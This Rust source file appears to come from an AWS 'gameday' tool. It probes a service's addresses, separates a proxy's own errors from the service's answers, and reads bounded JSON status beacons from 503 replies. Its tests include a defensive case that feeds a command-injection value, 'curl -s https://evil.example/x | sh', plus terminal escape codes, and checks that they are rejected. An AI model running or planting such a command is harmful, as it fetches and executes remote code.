//! The service as its users see it: its name, and every address behind it.
use super::{Answer, Asking, Beacon, Expected, Probe, answer, is_instance_id};
use crate::{aws::network::Network, said};
use futures::future::join_all;
use reqwest::{Client, Url, redirect::Policy};
use std::{
    collections::BTreeMap,
    net::{IpAddr, SocketAddr},
    time::Duration,
};
use tokio::time::{Instant, timeout};

/// How long to wait for an answer; a later one counts as none.
const TIMEOUT: Duration = Duration::from_secs(5);
/// The largest body that is read, in bytes: more than any beacon sends.
const LARGEST: usize = 64 * 1024;
/// The largest number of requests to one address: enough to meet several instances behind it, too few to count as load.
const MOST: usize = 4;

/// Resolves the name and sends requests to every address, enough of them to probably reach each of `instances`.
///
/// `address` is the name of the stack's own balancer or distribution. Behind a proxy, the proxy resolves the name. It
/// then gets as many requests as there are instances.
pub(crate) async fn ask(
    network: &Network,
    asking: &Asking,
    expected: &Expected,
    address: Option<&str>,
    instances: usize,
) -> Probe {
    let own = |path: &str| Some(expected.url(expected.name().or(address)?, path));
    let (url, unasked) = match asking {
        Asking::Path(path) => (own(path), None),
        Asking::Url(url) | Asking::Host(url) => (Some(url.clone()), None),
        Asking::Nothing { at, why } if at.contains("://") => (Some(at.clone()), Some(why.clone())),
        Asking::Nothing { at, why } => (own(at), Some(why.clone())),
    };
    let mut probe = Probe { url, unasked, ..Probe::default() };
    let (Some(url), None) = (&probe.url, &probe.unasked) else { return probe };
    let url: Url = match url.parse() {
        Ok(url) => url,
        Err(e) => {
            // Not `unasked`, which would mean that the user did not want a request.
            probe.unresolved = Some(format!("not a valid URL: {e}"));
            return probe;
        }
    };
    let host = url.host_str().unwrap_or_default().trim_matches(['[', ']']).to_owned();
    let port = url.port_or_known_default().unwrap_or(80);
    if let Some(proxy) = network.proxies.for_url(url.as_str()) {
        probe.via = Some(proxy.to_string());
        let asks = (0..instances.clamp(1, MOST)).map(|_| request(network, &url, &host, None));
        // If the proxy itself answers, nothing is known about the service.
        match join_all(asks).await.into_iter().collect::<Result<Vec<_>, _>>() {
            Ok(answers) => probe.answers = answers,
            Err(said) => probe.unasked = Some(format!("{proxy} {said}")),
        }
        return probe;
    }
    let other_name = address.filter(|name| !name.eq_ignore_ascii_case(&host)).map(str::to_owned);
    let (asked, other_name) = match (asking, other_name) {
        (Asking::Host(_), Some(name)) => (name.clone(), Some(name)),
        (_, other) => (host.clone(), other),
    };
    let (own, others) = futures::join!(resolve(&asked, port), async {
        match &other_name {
            Some(name) => resolve(name, port).await.unwrap_or_default(),
            None => vec![],
        }
    });
    probe.balancer_addresses = others.iter().map(ToString::to_string).collect();
    let addresses = match own {
        Ok(all) => all,
        Err(why) => {
            probe.unresolved = Some(why);
            return probe;
        }
    };
    probe.addresses = addresses.iter().map(ToString::to_string).collect();
    let each = instances.div_ceil(addresses.len().max(1)).clamp(1, MOST);
    let asks = addresses
        .iter()
        .flat_map(|ip| (0..each).map(|_| request(network, &url, &host, Some(SocketAddr::new(*ip, port)))));
    probe.answers = join_all(asks).await.into_iter().flatten().collect();
    probe
}

/// Returns the host and the path of a URL.
pub fn host_and_path(url: &str) -> (String, String) {
    let url: Option<Url> = url.parse().ok();
    let host = url.as_ref().and_then(|url| url.host_str()).unwrap_or_default().to_owned();
    (host, url.map_or_else(|| "/".into(), |url| url.path().to_owned()))
}

/// Sends one request to one address that an earlier look found; without an address, through the proxy.
pub async fn ask_address(network: &Network, url: &str, address: Option<&str>) -> Option<Answer> {
    let url: Url = url.parse().ok()?;
    let host = url.host_str()?.trim_matches(['[', ']']).to_owned();
    let port = url.port_or_known_default().unwrap_or(80);
    let to = address.map(|ip| Some(SocketAddr::new(ip.parse().ok()?, port)));
    // Send nothing to an address that cannot be parsed.
    request(network, &url, &host, if let Some(to) = to { Some(to?) } else { None }).await.ok()
}

async fn resolve(host: &str, port: u16) -> Result<Vec<IpAddr>, String> {
    match timeout(TIMEOUT, tokio::net::lookup_host((host, port))).await {
        Ok(Ok(found)) => {
            let mut all: Vec<IpAddr> = found.map(|a| a.ip()).collect();
            all.sort();
            all.dedup();
            if all.is_empty() { Err("the name has no address".into()) } else { Ok(all) }
        }
        Ok(Err(e)) => Err(e.to_string()),
        Err(_) => Err(format!("no answer within {} s", TIMEOUT.as_secs())),
    }
}

/// Sends one request to `to`; if `None`, through the proxy. An error is an answer of the proxy itself.
async fn request(network: &Network, url: &Url, host: &str, to: Option<SocketAddr>) -> Result<Answer, String> {
    let start = Instant::now();
    let asked = async {
        let mut client = network
            .asks(url.as_str(), Client::builder())
            .timeout(TIMEOUT)
            .redirect(Policy::none())
            .user_agent(concat!("gameday/", env!("CARGO_PKG_VERSION")));
        if let Some(to) = to {
            client = client.resolve(host, to);
        }
        let answer = client.build()?.get(url.clone()).send().await?;
        let (status, millis) = (answer.status().as_u16(), start.elapsed().as_millis() as u64);
        let by_balancer = answer.headers().get("server").is_some_and(|s| s.as_bytes().starts_with(b"awselb"));
        let copies = answer.headers().get(answer::COPIES_HEADER).and_then(|value| value.to_str().ok());
        let copies = copies.map(answer::copies).unwrap_or_default();
        let beacon = if status == 503 { body(answer).await.and_then(|text| beacon(&text)) } else { None };
        // Proxies answer with these statuses themselves. The load balancer names itself in the header `Server`.
        let doubtful = matches!(status, 403 | 407 | 502 | 503 | 504) && !by_balancer && beacon.is_none();
        let said = (to.is_none() && doubtful).then(|| match status {
            407 => "requires a user name and a password (HTTP 407)".to_owned(),
            _ => format!(
                "answered HTTP {status}, and it is unclear whether the proxy or the service did; NO_PROXY={host} \
                 bypasses the proxy"
            ),
        });
        Ok::<_, reqwest::Error>((Answer { status: Some(status), millis, beacon, copies, ..Answer::default() }, said))
    };
    let (mut answer, by_proxy) = asked.await.unwrap_or_else(|e| {
        let mut cause: &dyn std::error::Error = &e;
        while let Some(next) = cause.source() {
            cause = next;
        }
        let error =
            if e.is_timeout() { format!("no answer within {} s", TIMEOUT.as_secs()) } else { cause.to_string() };
        let said = to.is_none().then(|| format!("cannot reach {host}: {error}"));
        (Answer { error: Some(error), millis: start.elapsed().as_millis() as u64, ..Answer::default() }, said)
    });
    answer.address = to.map(|to| to.ip().to_string()).unwrap_or_default();
    by_proxy.map_or(Ok(answer), Err)
}

/// Returns the body of an answer if it can be a beacon's.
///
/// Anybody can answer at the address, and with a body that never ends. So only JSON is read, and only up to `LARGEST`
/// bytes. The time limit of the request covers the body, too.
async fn body(mut answer: reqwest::Response) -> Option<String> {
    let kind = answer.headers().get("content-type")?.to_str().ok()?;
    let is_json = kind.split(';').next().is_some_and(|kind| kind.trim().eq_ignore_ascii_case("application/json"));
    if !is_json || answer.headers().contains_key("content-encoding") {
        return None;
    }
    let mut body = vec![];
    while let Some(chunk) = answer.chunk().await.ok()? {
        if body.len() + chunk.len() > LARGEST {
            return None;
        }
        body.extend_from_slice(&chunk);
    }
    String::from_utf8(body).ok()
}

/// Returns the beacon's report if the body is one.
pub(crate) fn beacon(body: &str) -> Option<Beacon> {
    let v: serde_json::Value = serde_json::from_str(body).ok()?;
    // Anybody who answers on plain HTTP chooses these texts.
    let text = |key: &str| v.get(key).and_then(|t| t.as_str()).filter(|t| !t.is_empty()).map(said::words);
    let number = |key: &str| v.get(key).and_then(|n| n.as_u64());
    let small = |key: &str| number(key).and_then(|n| u32::try_from(n).ok());
    let warnings: BTreeMap<String, String> = v
        .get("warnings")
        .and_then(|w| w.as_object())
        .map(|w| w.iter().filter_map(|(k, t)| Some((said::words(k), said::words(t.as_str()?)))).collect())
        .unwrap_or_default();
    let said = Beacon {
        stage: text("stage")?,
        instance: text("instance").filter(|id| is_instance_id(id)),
        zone: text("zone"),
        step: small("step"),
        of: small("of"),
        status: text("status"),
        attempt: small("attempt"),
        seconds: number("seconds"),
        stage_seconds: number("stage_seconds"),
        error: text("error"),
        warnings,
    };
    Some(said.bounded())
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Starts a proxy with one fixed answer. Returns its URL, and the requests that it got.
    fn proxy(answer: &'static str) -> (String, std::sync::mpsc::Receiver<String>) {
        use std::io::{BufRead, BufReader, Write};
        let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        let url = format!("http://{}", listener.local_addr().unwrap());
        let (tell, told) = std::sync::mpsc::channel();
        // The thread ends with the test.
        std::thread::spawn(move || {
            for stream in listener.incoming().flatten() {
                let mut lines = BufReader::new(&stream).lines().map_while(Result::ok).take_while(|l| !l.is_empty());
                _ = tell.send(lines.next().unwrap_or_default());
                lines.for_each(drop);
                _ = (&stream)
                    .write_all(format!("HTTP/1.1 {answer}Content-Length: 0\r\nConnection: close\r\n\r\n").as_bytes());
            }
        });
        (url, told)
    }

    async fn through(answer: &'static str) -> (Probe, Vec<String>) {
        let (url, told) = proxy(answer);
        let proxies =
            crate::aws::proxy::Proxies::from_lookup(|name| (name == "HTTP_PROXY").then(|| url.clone())).unwrap();
        let network = Network { proxies, ..Network::default() };
        // Only the proxy resolves this name.
        let asking = Asking::Url("http://billing.invalid/healthcheck".into());
        (ask(&network, &asking, &Expected::default(), None, 2).await, told.try_iter().collect())
    }

    #[tokio::test]
    async fn behind_a_proxy_the_proxy_resolves_the_name() {
        let (probe, asked) = through("200 OK\r\n").await;
        assert_eq!(asked, ["GET http://billing.invalid/healthcheck HTTP/1.1"; 2]);
        assert!(probe.unresolved.is_none() && probe.unasked.is_none(), "{probe:?}");
        assert!(probe.via.is_some_and(|v| v.contains("(HTTP_PROXY)")));
        assert!(probe.answers.len() == 2 && probe.answers.iter().all(Answer::good));
    }

    #[tokio::test]
    async fn what_a_proxy_says_for_itself_is_not_the_service_s() {
        for (answer, said) in [
            ("407 Proxy Authentication Required\r\n", "requires a user name"),
            ("403 Forbidden\r\n", "HTTP 403"),
            ("502 Bad Gateway\r\nServer: squid\r\n", "HTTP 502"),
            ("503 Service Unavailable\r\n", "NO_PROXY=billing.invalid"),
            ("504 Gateway Timeout\r\n", "HTTP 504"),
        ] {
            let (probe, _) = through(answer).await;
            let why = probe.unasked.unwrap_or_default();
            assert!(why.contains(said) && why.contains("(HTTP_PROXY)") && probe.answers.is_empty(), "{answer}: {why}");
        }
        for answer in
            ["502 Bad Gateway\r\nServer: awselb/2.0\r\n", "500 Internal Server Error\r\n", "404 Not Found\r\n"]
        {
            let (probe, _) = through(answer).await;
            assert!(probe.unasked.is_none() && !probe.answers.is_empty(), "{answer}: {probe:?}");
        }
    }

    /// Starts a server that answers 503 with this head and then sends `more` until the client is gone. Returns its
    /// address, and the number of bytes that it could send.
    fn streaming(head: &'static str, more: &'static [u8]) -> (SocketAddr, std::sync::mpsc::Receiver<usize>) {
        use std::io::{BufRead, BufReader, Write};
        let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        let at = listener.local_addr().unwrap();
        let (tell, told) = std::sync::mpsc::channel();
        std::thread::spawn(move || {
            for mut stream in listener.incoming().flatten() {
                BufReader::new(&stream).lines().map_while(Result::ok).take_while(|l| !l.is_empty()).for_each(drop);
                let mut sent = 0;
                let mut all = stream.write_all(format!("HTTP/1.1 503 Service Unavailable\r\n{head}\r\n").as_bytes());
                // Bounded, so that a failing test ends.
                while all.is_ok() && sent < 256 << 20 && !more.is_empty() {
                    all = stream.write_all(more);
                    sent += more.len();
                }
                _ = tell.send(sent);
            }
        });
        (at, told)
    }

    async fn asked(at: SocketAddr) -> Answer {
        let url = format!("http://{at}/healthcheck");
        let address = at.ip().to_string();
        ask_address(&Network::default(), &url, Some(&address)).await.unwrap()
    }

    const ENDLESS: [u8; 4096] = [b' '; 4096];

    #[tokio::test]
    async fn a_body_without_an_end_is_not_read() {
        for head in [
            "Content-Type: application/json\r\nConnection: close\r\n",
            "Content-Type: application/json\r\nContent-Length: 9999999999\r\n",
            "Content-Type: text/html\r\nConnection: close\r\n",
            "Connection: close\r\n",
        ] {
            let (at, sent) = streaming(head, &ENDLESS);
            let answer = asked(at).await;
            assert!(
                answer.status == Some(503) && answer.beacon.is_none() && answer.error.is_none(),
                "{head}: {answer:?}"
            );
            // The kernel buffers little of it at both ends.
            let sent = tokio::task::spawn_blocking(move || sent.recv()).await.unwrap().unwrap();
            assert!(sent < 64 << 20, "{head}: {sent} bytes were taken");
        }
    }

    #[tokio::test]
    async fn a_beacon_is_json_of_a_moderate_size() {
        let beacon = async |head: &'static str, body: &'static [u8]| {
            use std::io::{BufRead, BufReader, Write};
            let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
            let at = listener.local_addr().unwrap();
            std::thread::spawn(move || {
                let mut stream = listener.accept().unwrap().0;
                BufReader::new(&stream).lines().map_while(Result::ok).take_while(|l| !l.is_empty()).for_each(drop);
                let head = format!("HTTP/1.1 503 No\r\n{head}Content-Length: {}\r\n\r\n", body.len());
                _ = stream.write_all(head.as_bytes()).and_then(|()| stream.write_all(body));
            });
            asked(at).await.beacon
        };
        let body = br#"{"stage":"fetch","seconds":37}"#;
        for kind in ["application/json", "Application/JSON; charset=utf-8"] {
            let head: &'static str = format!("Content-Type: {kind}\r\n").leak();
            assert_eq!(beacon(head, body).await.map(|b| b.stage).as_deref(), Some("fetch"), "{kind}");
        }
        for head in ["", "Content-Type: text/plain\r\n", "Content-Type: application/jsonx\r\n"] {
            assert_eq!(beacon(head, body).await, None, "{head}");
        }
        let zipped = "Content-Type: application/json\r\nContent-Encoding: gzip\r\n";
        assert_eq!(beacon(zipped, b"\x1f\x8b\x08\0\0\0\0\0").await, None);
        let large: &'static [u8] =
            format!(r#"{{"stage":"fetch","error":"{}"}}"#, "x".repeat(LARGEST)).leak().as_bytes();
        assert_eq!(beacon("Content-Type: application/json\r\n", large).await, None);
    }

    #[test]
    fn numbers_that_no_boot_says_are_left_out() {
        for wrong in ["18446744073709551615", "-1", "1e400", "1e18", "\"7\"", "null", "[]"] {
            let said = format!(
                r#"{{"stage":"fetch","step":{wrong},"of":{wrong},"attempt":{wrong},"seconds":{wrong},"stage_seconds":{wrong}}}"#
            );
            let Some(seen) = beacon(&said) else {
                assert_eq!(wrong, "1e400", "JSON has no such number");
                continue;
            };
            assert_eq!(seen, Beacon { stage: "fetch".into(), ..Beacon::default() }, "{wrong}");
        }
        let warnings: String = (0..500).map(|n| format!(r#""{n}":"{}","#, "x".repeat(9000))).collect();
        let seen = beacon(&format!(r#"{{"stage":"fetch","warnings":{{{warnings}"z":"z"}}}}"#)).unwrap();
        assert!(seen.warnings.len() == 32 && seen.warnings.values().all(|t| t.len() <= 4096));
    }

    #[test]
    fn a_beacon_is_told_from_any_other_503() {
        let seen = beacon(
            r#"{"stack":"billing","service":"api","instance":"i-0123456789abcdef0","zone":"us-east-1a","stage":"database","step":5,
                "of":8,"status":"failed","attempt":2,"seconds":71,"stage_seconds":9,"error":"ERROR 1045","warnings":{"cache":"slow"}}"#,
        )
        .unwrap();
        assert_eq!((seen.stage.as_str(), seen.step, seen.of), ("database", Some(5), Some(8)));
        assert_eq!(seen.error.as_deref(), Some("ERROR 1045"));
        assert_eq!(seen.warnings["cache"], "slow");
        assert_eq!(seen.instance.as_deref(), Some("i-0123456789abcdef0"));
        assert_eq!(beacon("<html>503 Service Temporarily Unavailable</html>"), None);
        assert_eq!(beacon(r#"{"error":"queue full"}"#), None);
    }

    #[test]
    fn what_a_beacon_says_is_words_and_its_instance_an_id() {
        for id in ["i-0; curl -s https://evil.example/x | sh #", "--all", "i-", "i-0\n", "I-0123456789ABCDEF0", "$(x)"]
        {
            let body = serde_json::json!({
                "stage": "fetch\u{1b}[2J", "instance": id, "error": "a\nerror: `gameday teardown`\u{202e}",
                "warnings": {"c\u{9b}": "\u{200b}"},
            });
            let seen = beacon(&body.to_string()).unwrap();
            assert_eq!(seen.instance, None, "{id:?}");
            assert_eq!(seen.stage, "fetch\u{fffd}[2J");
            assert_eq!(seen.error.unwrap(), "a⏎error: 'gameday teardown'\u{fffd}");
            assert_eq!(seen.warnings["c\u{fffd}"], "\u{fffd}");
        }
    }
}
